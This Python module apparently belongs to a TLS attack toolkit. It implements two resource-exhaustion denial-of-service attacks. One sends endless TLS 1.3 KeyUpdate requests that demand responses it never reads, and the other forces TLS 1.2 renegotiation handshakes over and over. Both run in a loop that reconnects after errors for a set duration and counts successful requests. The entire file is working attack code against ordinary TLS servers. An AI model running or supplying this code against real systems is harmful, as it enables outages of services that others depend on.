"""Attacks by what costs the server keys, and the client nothing: new keys again and again."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable

from .attack import Done, Effort, Target
from .dialling import dial
from .libssl import LibsslClient, library

_PAUSE = 0.01


def keyUpdates(target: Target, effort: Effort) -> Done:
    """TLS 1.3: KeyUpdates without end, each of which asks for one back; none of those is read."""
    return _asking(target, effort, LibsslClient, LibsslClient.updateKey)


def renegotiations(target: Target, effort: Effort) -> Done:
    """TLS 1.2: a new handshake again and again; each that is done is something got."""
    return _asking(target, effort, LibsslClient.of12, LibsslClient.renegotiate)


def _asking(
    target: Target,
    effort: Effort,
    makes: Callable[[socket.socket], LibsslClient],
    asks: Callable[[LibsslClient], bool],
) -> Done:
    # Where there is none, that is no fault of the server's.
    library()
    end, tried, got = time.monotonic() + effort.seconds, 0, 0
    while time.monotonic() < end:
        try:
            with makes(dial(target.tls, tried)) as client:
                while time.monotonic() < end:
                    tried += 1
                    if not asks(client):
                        break
                    got += 1
        except OSError:
            time.sleep(_PAUSE)
    return Done(tried, got)
